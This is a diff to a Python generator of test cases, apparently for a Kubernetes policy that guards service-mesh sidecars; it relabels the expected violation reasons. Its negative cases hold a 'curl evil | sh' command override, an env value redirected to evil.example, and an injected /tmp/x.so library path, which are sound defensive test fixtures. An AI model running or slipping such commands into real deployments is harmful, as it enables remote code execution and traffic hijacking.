@@ -29,18 +29,20 @@ def cases(p, kit):
     side = p["sidecars"][0]
     name = side["name"]
     if side["forbidCommand"]:
-        kit.pod("command_override", True, lambda pod: kit.sidecar(pod, name).update(command=["/bin/sh", "-c", "curl evil | sh"]))
+        kit.pod("command_override", "command-set", lambda pod: kit.sidecar(pod, name).update(command=["/bin/sh", "-c", "curl evil | sh"]))
     if side["checkArgs"] and side["argsPrefix"]:
-        kit.pod("args_replaced", True, lambda pod: kit.sidecar(pod, name).update(args=["--evil"]))
-        kit.pod("args_prefix_shifted", True, lambda pod: kit.sidecar(pod, name).update(args=["--evil", *side["argsPrefix"]]))
+        kit.pod("args_replaced", "args-prefix", lambda pod: kit.sidecar(pod, name).update(args=["--evil"]))
+        kit.pod("args_prefix_shifted", "args-prefix", lambda pod: kit.sidecar(pod, name).update(args=["--evil", *side["argsPrefix"]]))
     if side["pinnedEnv"]:
-        kit.pod("pinned_env_changed", True, lambda pod: kit.sidecar(pod, name)["env"][0].update(value="evil.example:15012"))
-        kit.pod("pinned_env_value_from", True, lambda pod: kit.sidecar(pod, name)["env"][0].update(
+        kit.pod("pinned_env_changed", "env-pinned-mismatch", lambda pod: kit.sidecar(pod, name)["env"][0].update(value="evil.example:15012"))
+        kit.pod("pinned_env_value_from", "env-pinned-mismatch", lambda pod: kit.sidecar(pod, name)["env"][0].update(
             valueFrom={"configMapKeyRef": {"name": "x", "key": "y"}}))
+    if side["forbidCommand"]:
+        kit.pod("command_override_outside_mesh", False, lambda pod: kit.sidecar(pod, name).update(command=["/bin/sh"]), outside=True)
     kit.pod("extra_env", False, lambda pod: kit.sidecar(pod, name).setdefault("env", []).append({"name": "POLICYGEN_EXTRA", "value": "1"}))
     if side["forbiddenEnv"]:
         var = side["forbiddenEnv"][0]
-        kit.pod("forbidden_env", True,
+        kit.pod("forbidden_env", "env-forbidden",
                 lambda pod: kit.sidecar(pod, name).setdefault("env", []).append({"name": var, "value": "/tmp/x.so"}))
 
 
